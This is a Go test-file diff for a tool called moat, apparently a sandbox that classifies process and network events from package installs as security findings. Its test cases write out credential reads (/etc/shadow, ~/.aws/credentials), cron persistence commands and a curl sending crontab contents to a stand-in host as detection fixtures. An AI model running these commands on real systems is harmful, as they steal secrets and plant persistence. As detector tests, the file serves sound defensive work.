@@ -3,6 +3,7 @@ package report
 import (
 	"bytes"
 	"encoding/json"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -50,6 +51,14 @@ func TestAnalyze(t *testing.T) {
 		{"cat /etc/shadow", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/cat", Detail: "cat /etc/shadow", PID: 4}}, moat.CategoryCredentialAccess, "high"},
 		{"cat ~/.aws/credentials in a shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cat ~/.aws/credentials", PID: 4}}, moat.CategoryCredentialAccess, "high"},
 		{"crontab", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo '* * * * * python x' | crontab -", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"crontab from a file", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/crontab", Detail: "crontab /tmp/.job", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"a job copied into cron.d", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cp /tmp/j /etc/cron.d/update", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"a job appended to the spool", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo '@reboot x' >> /var/spool/cron/crontabs/root", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"reading the crontab installs nothing", []moat.Event{
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c cat /etc/crontab", PID: 4},
+			{Source: "kernel", Kind: "exec", Path: "/bin/cat", Detail: "cat /etc/crontab", PID: 5, PPID: 4},
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/crontab", Detail: "crontab -l", PID: 6},
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c curl http://x.example/cron?data=%23+%2Fetc%2Fcrontab%3A+system-wide+crontab", PID: 7}}, moat.CategoryPersistence, ""},
 		{"pip's probes are not findings", []moat.Event{
 			{Source: "audit", Kind: "exec", Path: "lsb_release", Detail: "lsb_release -a", PID: 10},
 			{Source: "kernel", Kind: "exec", Path: "/usr/bin/lsb_release", Detail: "lsb_release -a", PID: 11, PPID: 10},
@@ -71,6 +80,11 @@ func TestAnalyze(t *testing.T) {
 		{"a dropped binary named python", []moat.Event{
 			{Source: "moat", Kind: "interpreter", Path: "/usr/bin/python3.11", SHA256: "aa"},
 			{Source: "kernel", Kind: "exec", Path: "/tmp/python3", SHA256: "cc", PID: 4}}, moat.CategoryExecution, "high"},
+		{"a dropped file that failed to run", []moat.Event{
+			{Source: "audit", Kind: "write", Path: "/tmp/.cache-update", PID: 1},
+			{Source: "kernel", Kind: "exec-failed", Path: "/tmp/.cache-update", Detail: "/tmp/.cache-update", PID: 2, PPID: 1}}, moat.CategoryExecution, "high"},
+		{"a failed exec of a file the run did not write", []moat.Event{
+			{Source: "kernel", Kind: "exec-failed", Path: "/tmp/missing", Detail: "missing", PID: 2}}, moat.CategoryExecution, ""},
 		{"kernel events dropped", []moat.Event{{Source: "moat", Kind: "events", Name: "kernel", Detail: "exec-failed 5000"}}, moat.CategoryEvasion, "medium"},
 		{"a flood of failing execs", floodFailed(60), moat.CategoryEvasion, "medium"},
 		{"the sink's dropped events, searched", []moat.Event{{Source: "network", Kind: "events", Detail: "1100 network events over their budgets; Data: what they carried, joined"}}, moat.CategoryNetwork, ""},
@@ -85,6 +99,12 @@ func TestAnalyze(t *testing.T) {
 		{"a private address with no network (requests' TARPIT, 10.255.255.1)", []moat.Event{
 			{Source: "kernel", Kind: "connect", Addr: "10.255.255.1:80", PID: 4},
 			{Source: "audit", Kind: "connect", Addr: "10.255.255.1:80", PID: 4}}, moat.CategoryNetwork, "low"},
+		{"a reserved address with no network (urllib3's TARPIT_HOST, 240.0.0.0)", []moat.Event{
+			{Source: "kernel", Kind: "connect", Addr: "240.0.0.0:80", PID: 4},
+			{Source: "audit", Kind: "connect", Addr: "240.0.0.0:80", PID: 4}}, moat.CategoryNetwork, "low"},
+		{"a reserved address the sink answered", []moat.Event{
+			{Source: "kernel", Kind: "connect", Addr: "240.0.0.0:80", PID: 4},
+			{Source: "network", Kind: "connect", Addr: "240.0.0.0:80", Detail: "sinkholed tcp http GET host=240.0.0.0"}}, moat.CategoryNetwork, "medium"},
 		{"a private address the sink answered", []moat.Event{
 			{Source: "kernel", Kind: "connect", Addr: "10.255.255.1:80", PID: 4},
 			{Source: "network", Kind: "connect", Addr: "10.255.255.1:80", Detail: "sinkholed tcp http POST host=10.255.255.1"}}, moat.CategoryNetwork, "medium"},
@@ -288,10 +308,11 @@ func FuzzAnalyze(f *testing.F) {
 	})
 }
 
+// floodFailed: n failing execs, each of another file (exec_flood.py).
 func floodFailed(n int) []moat.Event {
 	var evs []moat.Event
 	for i := 0; i < n; i++ {
-		evs = append(evs, moat.Event{Source: "kernel", Kind: "exec-failed", Path: "/nonexistent", PID: 4, TimeMS: int64(i)})
+		evs = append(evs, moat.Event{Source: "kernel", Kind: "exec-failed", Path: fmt.Sprintf("/nonexistent/x%d", i), PID: 4, TimeMS: int64(i)})
 	}
 	return evs
 }
@@ -473,5 +494,23 @@ func TestShellKinds(t *testing.T) {
 		if !got || not {
 			t.Errorf("%s: want a finding with %q and none with %q; got %q", c.name, c.want, c.not, sums)
 		}
+	}
+}
+
+// TestSummaryInvisible: a name with a zero-width space, a bidi override
+// or a newline in a finding is escaped on moat's summary line, so it
+// neither looks like another name nor writes a line of its own.
+func TestSummaryInvisible(t *testing.T) {
+	var b strings.Builder
+	WriteSummary(&b, &moat.Result{Findings: []moat.Finding{{Category: moat.CategoryPersistence, Severity: moat.SeverityHigh,
+		Summary: "wrote /home/u/.config/autostart/a\u200bb.desktop\nPASSED \u202eexe"}}})
+	out := b.String()
+	for _, want := range []string{`a\u200bb.desktop`, `\nPASSED`, `\u202eexe`} {
+		if !strings.Contains(out, want) {
+			t.Errorf("summary %q lacks %s", out, want)
+		}
+	}
+	if strings.Count(out, "\n") != 2 {
+		t.Errorf("summary %q: want two lines", out)
 	}
 }
